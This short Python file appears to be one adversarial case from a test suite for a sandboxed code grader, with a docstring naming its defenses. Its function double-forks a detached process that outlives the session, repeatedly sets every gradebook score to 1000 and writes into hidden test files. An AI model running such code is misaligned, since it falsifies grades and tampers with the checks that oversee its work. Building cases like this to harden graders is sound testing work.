"""Outlive the kernel: double-fork a session leader that keeps the kernel's stdout and stderr open, and for ten
minutes rewrites every gradebook it can reach and appends to tests/hidden/.

Stopped by: the pid namespace (the whole tree dies with the sandbox), and a grader that does not wait on pipes
held by the submission's processes.
"""


def cell(marker, port, course, repo, protect):
    import os
    import sys

    survivor = f"""
import sqlite3, time
from pathlib import Path
for _ in range(300):
    for db in Path({course!r}).glob("*.db"):
        try:
            with sqlite3.connect(db, timeout=1) as con:
                con.execute("UPDATE grade SET auto_score = 1000")
        except sqlite3.Error:
            pass
    for path in Path({repo!r}).glob("tests/hidden/*.py"):
        try:
            with open(path, "a") as f:
                f.write("# {marker}\\n")
        except OSError:
            pass
    time.sleep(2)
"""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", survivor, marker])
        os._exit(0)
